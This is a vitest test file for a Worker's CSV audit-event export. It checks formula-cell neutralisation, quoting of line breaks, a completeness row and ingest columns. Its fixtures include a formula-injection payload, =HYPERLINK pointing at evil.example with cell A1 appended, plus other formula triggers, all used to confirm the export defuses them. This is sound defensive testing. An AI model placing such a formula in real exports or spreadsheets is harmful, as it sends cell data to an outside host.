// CSV export safety: formula cells neutralised, line breaks always quoted, a completeness row,
// and the tenant and ingest facts in their own columns. Events go through the real Worker and
// queue; the file is read back with csv-parse.
import { SELF } from 'cloudflare:test'
import { parse } from 'csv-parse/browser/esm/sync'
import { beforeAll, describe, expect, it } from 'vitest'
import { CSV_COLUMNS, CSV_COMPLETE_MARKER, neutraliseCell } from '../../core/search/export-format'
import { BASE, event, mintKey, uniqueTenant, waitForEvents } from './helpers'

const tenant = uniqueTenant('csv')
let key: { id: string; key: string }
let requestId: string
let csv: string

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'

const events = [
  event({
    id: 'csv-formulas',
    occurred_at: '2026-01-15T10:00:03Z',
    actor: { type: 'user', id: 'u_1', name: '-cmd' },
    target: { type: 'doc', id: 'd_1', name: HYPERLINK },
    outcome: { status: 'failure', code: '-1', reason: '+1' },
    description: '@SUM(A1:A2)',
  }),
  event({
    id: 'csv-controls',
    occurred_at: '2026-01-15T10:00:02Z',
    actor: { type: 'user', id: 'u_2', name: '\rCR first' },
    target: { type: 'doc', id: 'd_2', name: '\tTAB first' },
    outcome: { status: 'failure', reason: 'line one\nline two' },
    description: 'carriage\rreturn',
  }),
  event({
    id: 'csv-plain',
    occurred_at: '2026-01-15T10:00:01Z',
    actor: { type: 'user', id: 'u_3', name: "it's fine" },
    target: { type: 'doc', id: 'd_3', name: 'a = b, and "c"' },
    metadata: { n: -5, s: '-cmd' },
  }),
]

type Row = Record<(typeof CSV_COLUMNS)[number], string>

/** Splits on CR, LF or CRLF outside quotes, as the most lenient spreadsheet import does. */
const parseLenient = (text: string) => parse(text, { record_delimiter: ['\r\n', '\n', '\r'] }) as string[][]

/** The completeness rule the route documents: the last record is the marker with the row count. */
function complete(records: string[][]): boolean {
  const last = records.at(-1)
  return last?.[0] === CSV_COMPLETE_MARKER && last[1] === String(records.length - 2)
}

beforeAll(async () => {
  // pii:read: the sealed actor names are exported in plaintext, which is what is checked here.
  key = await mintKey(tenant, ['events:write', 'events:read', 'pii:read'])
  const res = await SELF.fetch(`${BASE}/v1/events`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key.key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ events }),
    cf: { colo: 'AMS', country: 'NL' },
  } as RequestInit)
  expect(res.status).toBe(202)
  requestId = res.headers.get('x-request-id')!
  await waitForEvents(tenant, events.length)
  const exp = await SELF.fetch(`${BASE}/v1/export?format=csv`, {
    headers: { authorization: `Bearer ${key.key}` },
  })
  expect(exp.status).toBe(200)
  csv = await exp.text()
})

describe('CSV export safety', () => {
  it('prefixes formula cells with a quote, however a reader splits records', () => {
    for (const records of [parse(csv) as string[][], parseLenient(csv)]) {
      expect(records).toHaveLength(events.length + 2)
      const [header, ...body] = records
      const rows = body.slice(0, -1).map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])) as Row)
      const byId = Object.fromEntries(rows.map((r) => [r.id, r]))
      const f = byId['csv-formulas']!
      expect(f.target_name).toBe(`'${HYPERLINK}`)
      expect(f.outcome_reason).toBe("'+1")
      expect(f.actor_name).toBe("'-cmd")
      expect(f.description).toBe("'@SUM(A1:A2)")
      // A negative number written as text is prefixed too (OWASP makes no exception).
      expect(f.outcome_code).toBe("'-1")
      const c = byId['csv-controls']!
      expect(c.target_name).toBe("'\tTAB first")
      expect(c.actor_name).toBe("'\rCR first")
      expect(c.outcome_reason).toBe('line one\nline two')
      expect(c.description).toBe('carriage\rreturn')
      const p = byId['csv-plain']!
      expect(p.actor_name).toBe("it's fine")
      expect(p.target_name).toBe('a = b, and "c"')
      // Metadata is one JSON cell: its numbers never begin a cell and stay exact.
      expect(JSON.parse(p.metadata)).toEqual({ n: -5, s: '-cmd' })
    }
  })

  it('quotes every neutralised cell and every field holding a quote, comma, CR or LF', () => {
    expect(csv).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`)
    expect(csv).toContain(`"'+1"`)
    expect(csv).toContain(`"'-cmd"`)
    expect(csv).toContain(`"'\tTAB first"`)
    expect(csv).toContain(`"'\rCR first"`)
    expect(csv).toContain('"line one\nline two"')
    expect(csv).toContain('"carriage\rreturn"')
    // Outside quoted fields the only line breaks are the CRLF record delimiters.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '')
    expect(unquoted.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
    expect(unquoted.split('\r\n')).toHaveLength(events.length + 2 + 1)
    expect(csv.endsWith('\r\n')).toBe(true)
  })

  it('ends with a full-width completeness row carrying the event count', () => {
    const records = parse(csv) as string[][]
    expect(records).toHaveLength(events.length + 2)
    expect(records[0]).toEqual([...CSV_COLUMNS])
    const marker = records.at(-1)!
    expect(marker).toHaveLength(CSV_COLUMNS.length)
    expect(marker.slice(0, 2)).toEqual([CSV_COMPLETE_MARKER, String(events.length)])
    expect(marker.slice(2).every((v) => v === '')).toBe(true)
    expect(complete(records)).toBe(true)
    // Newest first, like the search.
    expect(records.slice(1, -1).map((r) => r[0])).toEqual(['csv-formulas', 'csv-controls', 'csv-plain'])
  })

  it('makes a cut-short file detectable, wherever it is cut', () => {
    const markerAt = csv.lastIndexOf(`\r\n${CSV_COMPLETE_MARKER},`) + 2
    const countEnd = markerAt + `${CSV_COMPLETE_MARKER},${events.length}`.length
    const readsComplete = (text: string, relax: boolean) => {
      try {
        return complete(parse(text, { relax_column_count: relax }) as string[][])
      } catch {
        return false
      }
    }
    // Cut inside a quoted field, after a whole row, before the marker, or inside the marker
    // up to the end of its count: never complete, for a strict or a lenient reader.
    const cuts = [csv.indexOf('line one') + 4, csv.indexOf('csv-controls'), markerAt - 2, markerAt]
    for (let i = markerAt + 1; i < countEnd; i++) cuts.push(i)
    for (const cut of cuts) {
      expect(readsComplete(csv.slice(0, cut), true), `cut at ${cut}`).toBe(false)
      expect(readsComplete(csv.slice(0, cut), false), `cut at ${cut}`).toBe(false)
    }
    // Past the count only padding is lost: a strict reader still refuses the short row.
    expect(readsComplete(csv.slice(0, countEnd + 3), false)).toBe(false)
    expect(readsComplete(csv, false)).toBe(true)
  })

  it('carries the tenant and the ingest facts, in columns after the original ones', () => {
    expect(CSV_COLUMNS.slice(-5)).toEqual([
      'tenant',
      'ingest_key_id',
      'ingest_request_id',
      'ingest_colo',
      'ingest_country',
    ])
    expect(CSV_COLUMNS.slice(0, 3)).toEqual(['id', 'seq', 'occurred_at'])
    const rows = (parse(csv, { columns: true }) as Row[]).slice(0, -1)
    expect(new Set(rows.map((r) => r.seq)).size).toBe(events.length)
    for (const r of rows) {
      expect(r.tenant).toBe(tenant)
      expect(r.ingest_key_id).toBe(key.id)
      expect(r.ingest_request_id).toBe(requestId)
      expect(r.ingest_colo).toBe('AMS')
      expect(r.ingest_country).toBe('NL')
      expect(r.received_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/)
      expect(r.hash).toMatch(/^[0-9a-f]{64}$/)
    }
  })

  it('agrees with the NDJSON export on every unneutralised field', async () => {
    const res = await SELF.fetch(`${BASE}/v1/export?format=ndjson`, {
      headers: { authorization: `Bearer ${key.key}` },
    })
    const lines = (await res.text())
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
    expect(lines.pop()).toEqual({ _export: { rows: events.length, complete: true } })
    const rows = (parse(csv, { columns: true }) as Row[]).slice(0, -1)
    expect(rows.map((r) => [r.id, r.seq, r.hash, r.received_at, r.ingest_request_id])).toEqual(
      lines.map((l) => [l.id, String(l.seq), l.hash, l.received_at, l.ingest.request_id]),
    )
  })
})

describe('neutraliseCell', () => {
  it('prefixes exactly the formula triggers, including their full-width forms', () => {
    for (const v of ['=1', '+1', '-1', '@a', '\tx', '\rx', '\uFF1D1', '\uFF0B1', '\uFF0D1', '\uFF20a'])
      expect(neutraliseCell(v)).toBe(`'${v}`)
    for (const v of ['', 'a=1', ' =1', "'=1", '1-2', '#complete', '{"n":-5}', '\nx'])
      expect(neutraliseCell(v)).toBe(v)
  })
})
